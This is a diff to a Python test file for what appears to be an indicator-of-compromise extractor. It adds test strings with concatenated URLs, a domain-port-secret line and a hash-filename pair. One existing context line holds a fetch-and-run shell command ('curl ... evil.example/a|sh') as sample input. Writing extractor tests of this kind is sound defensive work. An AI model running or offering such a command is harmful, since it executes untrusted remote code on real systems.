@@ -38,6 +38,16 @@ def taken(text: str) -> list[str]:
         ("- `\\https://evil.example/watch?v=1`", ["https://evil.example/watch?v=1"]),
         ("* `++hxxp://evil.example/exec++`", ["http://evil.example/exec"]),
         ("http://a.example/xhttp://b.example/y", ["http://a.example/x", "http://b.example/y"]),
+        (
+            "http://a.example/x/*http://b.example/y/*http://c.example/z",
+            ["http://a.example/x", "http://b.example/y", "http://c.example/z"],
+        ),
+        (
+            "$u='http://a.example/x@http://b.example/y'.Split('@')",
+            ["http://a.example/x", "http://b.example/y"],
+        ),
+        ("Domain1: evil.example:1604:secret", ["evil.example"]),
+        ("5f4dcc3b5aa765d61d8327deb882cf99:setup.exe", ["5f4dcc3b5aa765d61d8327deb882cf99"]),
         ("curl -s http://evil.example/a|sh", ["http://evil.example/a"]),
         ("a.exe: 5f4dcc3b5aa765d61d8327deb882cf99", ["5f4dcc3b5aa765d61d8327deb882cf99"]),
         ("imphash:5f4dcc3b5aa765d61d8327deb882cf99", []),
